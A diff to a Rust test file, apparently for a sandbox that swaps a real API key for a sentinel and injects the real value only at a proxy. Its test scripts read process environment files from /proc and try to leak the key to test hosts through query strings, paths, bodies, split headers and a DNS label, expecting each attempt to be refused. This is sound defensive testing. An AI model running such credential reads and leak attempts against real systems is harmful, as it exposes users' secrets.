@@ -156,7 +156,7 @@ fn the_jail_holds_only_the_sentinel_and_the_inject_host_gets_the_real_value() {
          echo \"sentinel $OA_KEY\"\n\
          cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '{real}' | sed 's/^/proc-environ /'\n\
          cat /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '{real}' | sed 's/^/ppid-environ /'\n\
-         curl -sS --max-time 10 -H \"Authorization: Bearer $OA_KEY\" {url} | sed 's/^/curl /'\n\
+         for v in 2 1.1; do curl -sS --max-time 10 --http$v -o /tmp/r -w \"curl h%{{http_version}} \" -H \"Authorization: Bearer $OA_KEY\" {url}; cat /tmp/r; done\n\
          {VENV_PYTHON} -c 'import os, sys, urllib.request as u; r = u.Request(sys.argv[1], headers={{\"Authorization\": \"Bearer \" + os.environ[\"OA_KEY\"]}}); print(\"urllib\", u.urlopen(r).read().decode().strip())' {url}\n\
          {VENV_PYTHON} -c 'import os, sys, requests; print(\"requests\", requests.get(sys.argv[1], headers={{\"Authorization\": \"Bearer \" + os.environ[\"OA_KEY\"]}}, timeout=10).text.strip())' {url}\n\
          {NODE} -e 'fetch(process.argv[1], {{headers: {{authorization: \"Bearer \" + process.env.OA_KEY}}}}).then(r => r.text()).then(t => console.log(\"node\", t.trim()))' {url}\n"
@@ -169,7 +169,8 @@ fn the_jail_holds_only_the_sentinel_and_the_inject_host_gets_the_real_value() {
         [
             "proc-environ 0",
             "ppid-environ 0",
-            "curl auth-ok",
+            "curl h2 auth-ok",
+            "curl h1.1 auth-ok",
             "urllib auth-ok",
             "requests auth-ok",
             "node auth-ok",
@@ -179,7 +180,7 @@ fn the_jail_holds_only_the_sentinel_and_the_inject_host_gets_the_real_value() {
     );
     // The upstream got the real value, never the sentinel.
     let received = lab.received();
-    assert_eq!(received.matches(real.as_str()).count(), 4, "{received}");
+    assert_eq!(received.matches(real.as_str()).count(), 5, "{received}");
     assert!(!received.contains(&sentinel[14..]), "{received}");
     // Neither value is in the decision log.
     let logged = std::fs::read_to_string(&log).unwrap();
@@ -210,11 +211,11 @@ fn a_sentinel_anywhere_else_is_refused_and_never_reaches_an_upstream() {
     let script = format!(
         "unset NO_PROXY no_proxy\n\
          echo \"sentinel $OA_KEY\"\n\
-         {c} -w 'header-other %{{http_code}}\\n' -H \"Authorization: Bearer $OA_KEY\" {ub}/x\n\
+         {c} --http1.1 -w 'header-other %{{http_code}}\\n' -H \"Authorization: Bearer $OA_KEY\" {ub}/x\n\
          {c} -w 'query-inject %{{http_code}}\\n' \"{ua}/x?key=$OA_KEY\"\n\
          {c} -w 'path-other %{{http_code}}\\n' \"{ub}/$OA_KEY\"\n\
          {c} -w 'body-other %{{http_code}}\\n' --data \"k=$OA_KEY\" {ub}/x\n\
-         {c} -w 'split-headers %{{http_code}}\\n' -H \"X-A: ${{OA_KEY:0:30}}\" -H \"X-A: ${{OA_KEY:30}}\" {ub}/x\n\
+         {c} --http2 -w 'split-headers %{{http_code}}\\n' -H \"X-A: ${{OA_KEY:0:30}}\" -H \"X-A: ${{OA_KEY:30}}\" {ub}/x\n\
          {c} -w 'upper-case %{{http_code}}\\n' -H \"X-A: $(echo $OA_KEY | tr a-z A-Z)\" {ub}/x\n\
          {c} -w 'dns-label %{{http_connect}}\\n' https://$OA_KEY.example.com/\n\
          {c} -w 'plain-http %{{http_code}}\\n' -H \"Authorization: Bearer $OA_KEY\" http://127.0.0.1:{a}/x\n\
